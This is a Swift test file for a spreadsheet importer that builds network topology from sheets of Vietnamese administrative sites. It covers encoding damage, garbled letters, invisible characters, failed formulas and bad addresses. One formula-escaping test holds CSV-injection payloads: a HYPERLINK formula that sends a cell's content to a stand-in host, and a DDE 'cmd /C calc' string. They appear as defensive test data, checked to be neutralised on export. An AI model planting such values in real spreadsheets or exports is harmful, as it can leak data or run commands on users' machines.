import Foundation
import Testing
import Topology

@testable import Documents
@testable import Sheets
@testable import TopologyFiles

/// What people do to sheets, and what an import says of it. Each case was somebody's bug report.
@Suite("Damaged and odd cells of a sheet are told at their cell") struct SheetFaultTests {
    @Test("the clean sheet says nothing")
    func clean() {
        let result = Sheet().imported()
        #expect(result.told == [])
        #expect(result.ok)
    }

    // MARK: Encodings

    private func utf16(_ text: String) -> [UInt8] { [0xFF, 0xFE] + text.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] } }

    @Test("UTF-16 that was cut or lost half a letter is refused at that place")
    func utf16Damage() throws {
        let text = Sheet().text
        #expect(Sheet.importing(utf16(text)).ok)
        let cut = Sheet.importing(utf16(text).dropLast(3))
        #expect(!cut.ok)
        #expect(cut.problems.contains { $0.code == .unreadable && $0.line == 5 })
        // A lone surrogate in place of the "Y" of "Yên Mô", line 3.
        var bytes = utf16(text)
        let at = try #require(Array(text.utf16).firstRange(of: Array("Yên Mô".utf16))).lowerBound * 2 + 2
        (bytes[at], bytes[at + 1]) = (0x3D, 0xD8)
        let hole = Sheet.importing(bytes)
        let problem = try #require(hole.problems.first { $0.code == .unreadable })
        #expect((problem.line, problem.column) == (3, 17))
        #expect(problem.message.contains("half a letter"))
    }

    @Test("Ctrl-Z at the end is the end of the file, and told")
    func endMark() {
        let result = Sheet.importing(Array(Sheet().text.utf8) + [0x1A])
        #expect(result.told == ["6 mended[byte-order-mark]"])
        #expect(result.ok && result.nodes == 4)
    }

    @Test("bytes that are no UTF-8 are refused at their line and column")
    func notUTF8() throws {
        var bytes = Array(Sheet().text.utf8)
        let at = try #require(bytes.firstRange(of: Array("Mỹ".utf8))).lowerBound + 1
        bytes[at] = 0xFF
        let problem = try #require(Sheet.importing(bytes).problems.first)
        #expect((problem.code, problem.line, problem.column) == (.unreadable, 4, 21))
    }

    // MARK: Lost letters

    @Test(
        "letters that were lost on the way are refused, with the cell and what to do",
        arguments: [
            "UBND x\u{FFFD} Y\u{FFFD}n M\u{FFFD}", "UBND x? Y?n M?", "UBND xÃ£ YÃªn Má»¹", "UBND x&#227; Y&#234;n", "UBND xÃ£ YÃªn M?", "UBND x&atilde; Yên",
            "UBND x· Yªn Mü", "ñy ban x\u{80}", "xÆ°Æ¡ng", "\u{E000}ên", "x%C3%A3", "x\\u00e3 Yên", "xã \u{0410}n", "x├ú Y├¬n", "Má»? Yên", "Xã aên Mỹ\u{0430}",
        ])
    func lostLetters(name: String) throws {
        var sheet = Sheet()
        sheet[2, .name] = name
        let result = sheet.imported()
        if name == "xã \u{0410}n" || name == "Xã aên Mỹ\u{0430}" { #expect(result.messages.contains { $0.contains("alphabet") }) }
        #expect(result.told == ["B4 error[lost-letters]"], "\(result.text)")
        #expect(!result.text.contains("\u{FFFD}"))
    }

    @Test(
        "names as they are pass",
        arguments: [
            "UBND XÃ YÊN MỸ", "Hội trường “UBND XÃ”", "XÃ – PHƯỜNG", "«Nhà lá» của xã", "Krông Năng", "Ea H'Leo", "Đắk R'lấp", "Cư M'gar", "Phòng 20 m²",
            "Xã Nà Ư (mới)",
            "VNPT®", "Điểm cầu số 1/2", "A&B", "Tầng 3, nhà A – khu “Âu Cơ”", "Müller", "TÒA ÁN ĐÔNG Á", "50 % số xã", "Xã “XÃ”",
        ])
    func goodNames(name: String) { #expect(LostLetters.find(in: name, strict: true) == nil) }

    @Test("a note may ask a question")
    func questions() {
        #expect(LostLetters.find(in: "đã khảo sát chưa? hỏi lại", strict: false) == nil)
        #expect(LostLetters.find(in: "Vì sao?", strict: false) == nil)
    }

    // MARK: Numbers

    @Test("numbers may have as many digits as a spreadsheet writes")
    func digits() throws {
        var sheet = Sheet()
        sheet[2, .latitude] = "20.111598714302634"
        sheet[2, .capacity] = "9.6000000000000014"
        sheet[3, .capacity] = "1E+01"
        sheet.head.append("Độ trễ đo (ms)")
        for i in sheet.rows.indices { sheet.rows[i].append(i == 2 ? "7.3333333333333339" : "") }
        let result = sheet.imported()
        #expect(result.told == [])
        let network = try TopologyFiles.parse(try #require(result.yaml), file: "s.yaml")
        let link = try #require(network.links[2])
        #expect(link.line.up.bitsPerSecond == 9_600_000)
        #expect(link.line.latency.nanoseconds == 3_666_667)
        #expect(network.links[3]?.line.up == .mbps(10))
        #expect(network.nodes[2].coordinates?.latitude == 20.111598714302634)
    }

    @Test("too large a number is told as that, and thousands with marks as such")
    func tooLarge() {
        var sheet = Sheet()
        sheet[2, .capacity] = String(repeating: "9", count: 40)
        sheet[3, .capacity] = "1.000.000"
        let result = sheet.imported()
        #expect(result.told == ["F4 error[bad-number]", "F5 error[ambiguous-number]"])
        #expect(result.messages[0].contains("must lie between"))
    }

    // MARK: Invisible letters

    @Test(
        "what nobody sees is taken out of every column, and told",
        arguments: [Sheet.Column.code, .name, .level, .unit, .parent, .capacity, .address, .latitude, .longitude],
        ["\u{200B}", "\u{200E}", "\u{202A}", "\u{2060}", "\u{00AD}", "\u{FEFF}", "\u{8}", "\u{7F}", "\u{E0001}", "\u{3164}"])
    func hidden(column: Sheet.Column, letter: String) throws {
        var sheet = Sheet()
        sheet[2, column] = letter + sheet[2, column] + letter
        let result = sheet.imported()
        let letters = ["A", "B", "C", "D", "E", "F", "G", "H", "I"]
        #expect(result.told == ["\(letters[column.rawValue])4 mended[hidden-letters]"])
        #expect(result.yaml == Sheet().imported().yaml)
        #expect(!result.text.unicodeScalars.contains { $0.value != 10 && Letters.isStray($0) })
    }

    @Test("an invisible letter in a heading is told, and the column read")
    func hiddenHeading() {
        var sheet = Sheet()
        sheet.head[1] += "\u{200B}"
        let result = sheet.imported()
        #expect(result.told == ["B1 mended[hidden-letters]"])
        #expect(result.ok)
    }

    @Test("two names that look the same below one parent are told", arguments: ["UBND xã Yên Mỹ\u{200B}", "UBND xã Yên\u{AD} Mỹ", "UBND xã Yên  Mỹ"])
    func sameNames(name: String) {
        var sheet = Sheet()
        sheet[3, .name] = name
        #expect(sheet.imported().told.contains("B5 error[duplicate-name]"))
    }

    @Test("eth is told and read as Đ")
    func eth() throws {
        var sheet = Sheet()
        sheet[2, .name] = "Xã Ðồng Thái"
        let result = sheet.imported()
        #expect(result.told == ["B4 mended[look-alike]"])
        #expect(try #require(result.yaml).contains("Xã Đồng Thái"))
    }

    // MARK: Rows that are no sites

    @Test("the foot of a sheet is left out with one line")
    func foot() {
        var sheet = Sheet()
        sheet.rows += [
            ["", "", "", "", "", "Ninh Bình, ngày 12 tháng 11 năm 2021", "", "", ""], ["", "NGƯỜI LẬP BIỂU", "", "", "TRƯỞNG PHÒNG", "", "", "", ""],
            ["", "(Ký, ghi rõ họ tên)", "", "", "", "(Ký tên, đóng dấu)", "", "", ""], ["Nguyễn Văn A", "", "", "", "Trần Thị B", "", "", "", ""],
        ]
        let result = sheet.imported()
        #expect(result.told == ["6 mended[foot-row]"])
        #expect(result.messages == ["rows 6 to 9 are the foot of the sheet, no sites; left out"])
        #expect(result.nodes == 4)
    }

    @Test("a site below the foot is a site")
    func belowFoot() {
        var sheet = Sheet()
        let last = sheet.rows.removeLast()
        sheet.rows += [["", "Người lập", "", "", "", "Trưởng phòng", "", "", ""], last]
        let result = sheet.imported()
        #expect(result.told == ["5 mended[foot-row]"])
        #expect(result.nodes == 4)
    }

    @Test("a heading over a level says that it is one", arguments: ["Tỉnh", "Cấp huyện", "CẤP XÃ"])
    func levelRow(text: String) {
        var sheet = Sheet()
        sheet.rows.insert([text] + [String](repeating: "", count: 8), at: 2)
        let result = sheet.imported()
        #expect(result.told == ["A4 mended[section-row]"])
        #expect(result.messages[0].contains("heading over a level"))
    }

    // MARK: No values

    @Test("failed formulas are errors in every column", arguments: ["#N/A", "#REF!", "#VALUE!", "#NAME?", "#DIV/0!", "#NUM!", "#NULL!", "#####", "Err:502"])
    func failedFormulas(text: String) {
        for column in 0..<9 {
            var sheet = Sheet()
            sheet.rows[3][column] = text
            let result = sheet.imported()
            #expect(result.told.filter { $0.contains("error") } == ["\(["A", "B", "C", "D", "E", "F", "G", "H", "I"][column])5 error[failed-formula]"])
        }
    }

    @Test("placeholders stand for nothing", arguments: ["-", "–", "...", "…", "n/a", "N/A", "x", "chưa có", "chua co", "Chưa cấp", "?", "không có"])
    func placeholders(text: String) throws {
        for column in [Sheet.Column.code, .level, .unit, .capacity, .address] {
            var sheet = Sheet()
            sheet[3, column] = text
            let result = sheet.imported()
            #expect(result.told.contains("\(["A", "B", "C", "D", "E", "F", "G"][column.rawValue])5 mended[placeholder]"))
            #expect(result.ok, "\(result.text)")
            #expect(try #require(result.yaml).contains("name: UBND xã Yên Thắng"))
        }
        var nameless = Sheet()
        nameless[3, .name] = text
        #expect(nameless.imported().told.contains("5 error[missing-name]") || nameless.imported().told.contains("A5 error[missing-name]"))
        var top = Sheet()
        top[0, .parent] = text == "x" ? "-" : text
        #expect(top.imported().ok)
        var orphan = Sheet()
        orphan[3, .parent] = text
        #expect(!orphan.imported().ok)
    }

    @Test("as above is no value", arguments: ["nt", "như trên", "\"", "〃"])
    func ditto(text: String) {
        var sheet = Sheet()
        sheet[3, .parent] = text
        #expect(sheet.imported().told == ["E5 error[placeholder]"])
    }

    @Test("a code that became a number with an exponent has lost its digits", arguments: [Sheet.Column.code, .name, .unit], ["1.23E+05", "1,23E+05", "1E-05"])
    func exponents(column: Sheet.Column, text: String) {
        var sheet = Sheet()
        sheet[3, column] = text
        let place = ["A", "B", "C", "D"][column.rawValue] + "5"
        #expect(sheet.imported().told.contains("\(place) error[bad-unit-code]"))
    }

    // MARK: Formulas and addresses

    @Test("what a spreadsheet would reckon goes out with an apostrophe and comes in without it, and is told", arguments: [Language.en, .vi])
    func formulas(language: Language) throws {
        let names = ["=HYPERLINK(\"http://x.invalid/?\"&A1;\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+84 1", "'quoted'"]
        var sheet = Sheet()
        sheet.rows.removeLast()
        for (i, name) in names.enumerated() { sheet.rows.append(["X\(i)", name, "cum", "", "H377", "8", "10.37.2.\(i + 1)", "", ""]) }
        let result = sheet.imported(language: language)
        #expect(result.told == (5...8).map { "B\($0) mended[formula-text]" })
        let network = try TopologyFiles.parse(try #require(result.yaml), file: "s.yaml")
        let bill = Sheets.linkBill(network, language: language)
        let table = CSVTable(Array(bill.unicodeScalars.dropFirst()), separator: language == .vi ? ";" : ",")
        for cell in table.rows.joined() { #expect(!FormulaText.isFormula(cell.text), "\(cell.text)") }
        let again = Sheets.importSheet(bytes: Array(bill.utf8), file: "bill.csv", output: "s.yaml", language: language)
        let twice = try TopologyFiles.parse(try #require(again.yaml, "\(again.text)"), file: "again.yaml")
        #expect(twice.nodes.map(\.name) == network.nodes.map(\.name))
        #expect(Set(names).isSubset(of: Set(twice.nodes.map(\.name))))
    }

    @Test("a negative number is no formula")
    func negative() {
        #expect(FormulaText.protected("-6.2") == "-6.2")
        #expect(FormulaText.unprotected(FormulaText.protected("'=1")) == "'=1")
    }

    @Test("leading zeros of an address are told")
    func zeros() throws {
        var sheet = Sheet()
        sheet[2, .address] = "010.037.001.011"
        sheet[3, .address] = "010.037.001.012:5006"
        let result = sheet.imported()
        #expect(result.told == ["G4 mended[leading-zeros]", "G5 mended[address-tail]"])
        let network = try TopologyFiles.parse(try #require(result.yaml), file: "s.yaml")
        #expect(network.nodes[2].address.host == "10.37.1.11")
    }

    @Test("addresses that no other node reaches are refused", arguments: ["fe80::1", "::10.37.0.1", "::2", "0.1.2.3", "224.0.0.1"])
    func noHosts(text: String) {
        var sheet = Sheet()
        sheet[2, .address] = text
        #expect(sheet.imported().told == ["G4 error[bad-address]"])
    }

    @Test("a mapping of units is read like any sheet")
    func mapping() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("nhipcau-mapping-\(UInt64.random(in: 0 ... .max))")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let path = folder.appendingPathComponent("m.csv").path
        try "\u{FEFF}old_code;new_code\r\n\u{200B}14701;'14702\r\n-;14703\r\n".write(toFile: path, atomically: true, encoding: .utf8)
        var mapping = UnitMapping()
        let read = try Sheets.loadMapping(path, into: &mapping)
        #expect((read.rows, read.skipped) == (2, 1))
        try "old_code,new_code\n14701,#N/A\n".write(toFile: path, atomically: true, encoding: .utf8)
        #expect(throws: InvalidFile.self) { try Sheets.loadMapping(path, into: &mapping) }
    }
}
